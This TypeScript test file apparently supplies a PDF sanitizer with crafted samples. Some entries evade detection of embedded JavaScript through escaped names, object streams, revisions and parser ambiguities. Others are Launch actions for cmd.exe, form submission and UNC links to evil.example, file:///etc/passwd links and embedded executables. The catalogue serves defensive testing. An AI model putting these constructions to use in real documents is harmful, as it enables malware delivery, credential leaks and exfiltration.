import { type BadFile, badPdf as bad } from './bad-file.ts'
import { buildPackedPdf, buildPdf, packed, packedPages, pointInto, revise, script, stream } from './pdf.ts'

/** What is active as an object of its own, and what as an entry of the catalog. */
const objects: [name: string, ...written: (string | Buffer)[]][] = [
  ['JavaScript', script],
  ['JavaScript spelt with #xx', '<< /S /J#61va#53cript /#4aS (x) >>'],
  ['/JS alone, spelt with #xx', '<< /#4a#53 (x) >>'],
  ['JavaScript behind a string that says stream', '(\nstream\n)', script, stream('', Buffer.from('x'))],
  ['JavaScript between odd spaces', '<</S\0/JavaScript\f/JS<6170>>>'],
  ['JavaScript whose kind is an object of its own', '<< /S 6 0 R /X (app.alert\\(1\\)) >>', '/JavaScript'],
  ['JavaScript behind a comment', '<< /S % of what kind\n/JavaScript >>'],
  ['JavaScript in an array of arrays', `[[[${script}]]]`],
  ['JavaScript after a link', `<< /S /URI /URI (https://example.in) /Next ${script} >>`],
  ['JavaScript in a dictionary of a stream', stream(`/Extra ${script}`, Buffer.from('x'))],
  ['a program to launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['a program to launch, for one system', '<< /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>'],
  ['a place in another file', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0 /Fit] >>'],
  ['a way into an embedded file', '<< /S /GoToE >>'],
  ['a form that sends itself', '<< /S /SubmitForm /F (http://evil.example) >>'],
  ['a form that empties itself', '<< /S /ResetForm >>'],
  ['data to import', '<< /S /ImportData /F (a.fdf) >>'],
  ['a rendition', '<< /S /Rendition /R 4 0 R /OP 0 >>'],
  ['a film', '<< /S /Movie /T (a) >>'],
  ['a sound', '<< /S /Sound /Sound 4 0 R >>'],
  ['a note that hides', '<< /S /Hide /T (a) >>'],
  ['a named action', '<< /S /Named /N /Print >>'],
  ['a thread in another file', '<< /S /Thread /D 0 >>'],
  ['a layer that is switched', '<< /S /SetOCGState /State [/ON 4 0 R] >>'],
  ['a view of three dimensions', '<< /S /GoTo3DView /TA 4 0 R /V /F >>'],
  ['rich media that runs', '<< /S /RichMediaExecute /TA 4 0 R >>'],
  ['an action nobody knows', '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /RunMe >> >>'],
  ['an action without a kind', '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /D (cmd.exe) >> >>'],
  ['another file within', stream('/Type /EmbeddedFile', Buffer.from('MZ'))],
  ['another file within, of no kind', '<< /F (a.exe) /EF << /F 4 0 R >> >>'],
  ['another file within, by its kind', stream('/Subtype /application#2Foctet-stream', Buffer.from('x'))],
  ['the name of another file', '<< /Type /Filespec /F (http://evil.example/a) /FS /URL >>'],
  ['the name of another file, in letters of the world', '<< /UF (a.exe) >>'],
  ['a stream that lies elsewhere', '<< /Length 0 /F (http://evil.example/a) >>\nstream\n\nendstream'],
  ['a stream that lies elsewhere, its filter too', stream('/FFilter /FlateDecode', Buffer.from('x'))],
  [
    'a page of another file',
    stream('/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>', Buffer.from('x')),
  ],
  [
    'a picture kept for a press elsewhere',
    stream('/Subtype /Image /OPI << /2.0 << /F (a.tif) >> >>', Buffer.from('x')),
  ],
  ['a drawing in PostScript', stream('/Type /XObject /Subtype /PS', Buffer.from('showpage'))],
  [
    'a drawing with PostScript beside it',
    stream('/Type /XObject /Subtype /Form /PS 4 0 R', Buffer.from('x')),
  ],
  ['a file pinned to the page', '<< /Subtype /FileAttachment >>'],
  ['a note with a film', '<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>'],
  ['a note with a sound', '<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] >>'],
  ['a note with a screen', '<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>'],
  ['a note in three dimensions', '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>'],
  ['a model in three dimensions', stream('/Type /3D /Subtype /U3D', Buffer.from('x'))],
  ['rich media', '<< /Subtype /RichMedia >>'],
  ['a note of a kind nobody knows', '<< /Type /Annot /Subtype /Gadget /Rect [0 0 9 9] >>'],
  ['a dictionary of a kind nobody knows', '<< /Type /Gadget >>'],
  ['something to do when a page opens', '<< /Type /Page /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>'],
  ['a page that leads to something nobody knows', '<< /Type /Page /Gadget 4 0 R >>'],
  ...[
    'javascript:app.alert(1)',
    'java\\\nscript:alert(1)',
    'file:///C:/Windows/a.exe',
    '\\\\\\\\evil.example\\\\a',
  ].map((address): [string, string] => [`a link to ${address}`, `<< /S /URI /URI (${address}) >>`]),
  ['a link to a script, in numbers', `<< /S /URI /URI <${Buffer.from('javascript:x').toString('hex')}> >>`],
  ['a link whose address is an object of its own', '<< /S /URI /URI 6 0 R >>', '(file:///etc/passwd)'],
  [
    'a link whose address is two references away',
    '<< /S /URI /URI 6 0 R >>',
    '7 0 R',
    '(file:///etc/passwd)',
  ],
  [
    'a program to launch, two references away',
    '<< /Rect [0 0 9 9] /A 6 0 R >>',
    ...['7 0 R', '<< /S 8 0 R /F 10 0 R >>', '9 0 R', '/Launch', '11 0 R', '(cmd.exe)'],
  ],
  ['a link to data', '<< /S /URI /URI (data:text/html,<b>) >>'],
  ['a name that two readers spell otherwise', '<< /J#2353 (x) >>'],
]
const catalogs: [name: string, catalog: string, ...more: (string | Buffer)[]][] = [
  ['JavaScript when it opens', `/OpenAction ${script}`],
  ['JavaScript by name', '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', script],
  ['a link that opens by itself', '/OpenAction << /S /URI /URI (https://evil.example) >>'],
  [
    'a link that opens by itself, by its number',
    '/OpenAction 5 0 R',
    '<< /S /URI /URI (https://evil.example) >>',
  ],
  ['something to do when it closes', '/AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>'],
  ['an XFA form', '/AcroForm << /XFA 5 0 R >>', stream('', Buffer.from('<xdp/>'))],
  ['a form with a part nobody knows', '/AcroForm << /Fields [] /Gadget [] >>'],
  ['files within, by name', '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>'],
  ['a list of names nobody knows', '/Names << /Gadgets 4 0 R >>'],
  ['renditions by name', '/Names << /Renditions 4 0 R >>'],
  ['files that belong to it', '/AF [4 0 R]'],
  ['a portfolio', '/Collection << /View /D >>'],
  ['a form that is drawn by its reader', '/NeedsRendering true'],
  ['addresses that begin elsewhere', '/URI << /Base (file:///C:/) >>'],
  ['a catalog that leads to something nobody knows', '/Gadget 4 0 R'],
]

/** PDFs that run something, or lead to another file or place. */
export const running: BadFile[] = [
  ...objects.map(([name, ...more]) => bad(name, 'active', () => buildPdf({ more }))),
  ...catalogs.map(([name, catalog, ...more]) => bad(name, 'active', () => buildPdf({ catalog, more }))),
  ...[
    '/Next 5 0 R',
    '/Next [5 0 R]',
    '/Next << /S /URI /URI (https://evil.example) >>',
    '/Next 5 0 R /Pg 3 0 R',
  ].map((next) =>
    bad(`what opens leads on by ${next}`, 'active', () =>
      buildPdf({
        catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] ${next} >>`,
        more: ['<< /S /URI /URI (https://evil.example) >>'],
      }),
    ),
  ),
  bad('a link that leads on to another', 'active', () =>
    buildPdf({
      more: [
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >> >>',
      ],
    }),
  ),
  bad('JavaScript in lines ended by CR', 'active', () =>
    buildPdf({ newline: '\r', more: [`% comment\r${script}`] }),
  ),
]

/** What runs is packed into a stream. */
export const packedAway: BadFile[] = [
  bad('JavaScript in a stream of objects', 'active', () => buildPackedPdf([...packedPages, script])),
  bad('JavaScript in a stream of objects whose kind is spelt with #xx', 'active', () =>
    buildPackedPdf([...packedPages, script], { type: '/Type /Obj#53tm' }),
  ),
  bad('JavaScript in a stream of objects of no kind', 'damaged', () =>
    buildPackedPdf([...packedPages, script], { type: '' }),
  ),
  bad('JavaScript in an unpacked stream of objects', 'active', () =>
    buildPackedPdf([...packedPages, script], { plain: true }),
  ),
  bad('JavaScript in a stream of objects, within what looks like a string', 'damaged', () =>
    buildPackedPdf([...packedPages, '(', script, ')']),
  ),
  bad('JavaScript in a stream of objects that no table names', 'active', () =>
    buildPdf({ more: [packed([script])] }),
  ),
]

/** What runs stands in another version of the file, or where only a table or a mending reader leads. */
export const versions: BadFile[] = [
  bad('JavaScript added behind the end', 'active', () =>
    revise(buildPdf(), { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }),
  ),
  bad('JavaScript in an older version', 'active', () =>
    revise(buildPdf({ catalog: `/OpenAction ${script}` }), { 1: '<< /Type /Catalog /Pages 2 0 R >>' }),
  ),
  bad('JavaScript in the version between', 'active', () =>
    revise(revise(buildPdf(), { 9: script }), { 9: 'null' }),
  ),
  bad('JavaScript in an object that no table names', 'active', () =>
    Buffer.from(
      buildPdf({ more: ['null'] })
        .toString('latin1')
        .replace('5 0 obj\nnull', `5 0 obj\n${script}`),
      'latin1',
    ),
  ),
  bad('JavaScript in a string that a table points into', 'damaged', () =>
    pointInto(buildPdf({ more: [`(9 0 obj ${script} endobj)`] }), 1, `9 0 obj ${script}`),
  ),
  bad('JavaScript in a comment that a table points into', 'damaged', () =>
    pointInto(buildPdf({ more: [`null %9 0 obj ${script} endobj\n`] }), 1, `9 0 obj ${script}`),
  ),
  bad('JavaScript in a picture that a table points into', 'damaged', () =>
    pointInto(
      buildPdf({ more: [stream('/Subtype /Image', Buffer.from(`9 0 obj ${script} endobj`))] }),
      1,
      '9 0 obj',
    ),
  ),
  bad('an object that a mending reader finds in a stream', 'damaged', () =>
    buildPdf({ content: `(9 0 obj ${script.replaceAll(/[()\\]/g, '')} endobj)` }),
  ),
  bad('a table that names another place', 'damaged', () => pointInto(buildPdf(), 3, '2 0 obj')),
  bad('a start that is no table', 'damaged', () =>
    Buffer.from(
      buildPdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n15'),
      'latin1',
    ),
  ),
  bad('a table before it that is none', 'damaged', () => buildPdf({ trailer: '/Prev 15' })),
  bad('a second table that is none', 'damaged', () => buildPdf({ trailer: '/XRefStm 15' })),
]

/** Files that two readers read in two ways. */
export const readTwice: BadFile[] = [
  bad('a key that stands twice', 'damaged', () =>
    buildPdf({
      more: [`<< /Subtype /Link /A << /S /URI /URI (https://a.in) >> /A << /S /GoTo /D (x) >> >>`],
    }),
  ),
  bad('a stream that ends twice', 'damaged', () =>
    buildPdf({ content: `BT ET\nendstream endobj 8 0 obj ${script.replaceAll(/[()\\]/g, '')}` }),
  ),
  bad('a stream that is longer than it says', 'damaged', () =>
    buildPdf({ more: [`<< /Length 2 >>\nstream\nabcdef\nendstream`] }),
  ),
  bad('a stream of no length', 'damaged', () => buildPdf({ more: [`<< >>\nstream\nabcdef\nendstream`] })),
  bad('a stream of two lengths', 'damaged', () =>
    revise(buildPdf({ more: ['<< /Length 6 0 R >>\nstream\nabcd\nendstream', '4'] }), { 6: '2' }),
  ),
  bad('words between its objects', 'damaged', () =>
    Buffer.from(buildPdf().toString('latin1').replace('endobj\n2 0', 'endobj\nhello\n2 0'), 'latin1'),
  ),
  ...['[--5]', '<4z1>', '[truefalse]', '[+-1]'].map((written) =>
    bad(`two ways to read ${JSON.stringify(written)}`, 'damaged', () => buildPdf({ more: [written] })),
  ),
  bad('a filter nobody knows', 'damaged', () =>
    buildPdf({ more: [stream('/Filter /Gadget', Buffer.from('x'))] }),
  ),
]
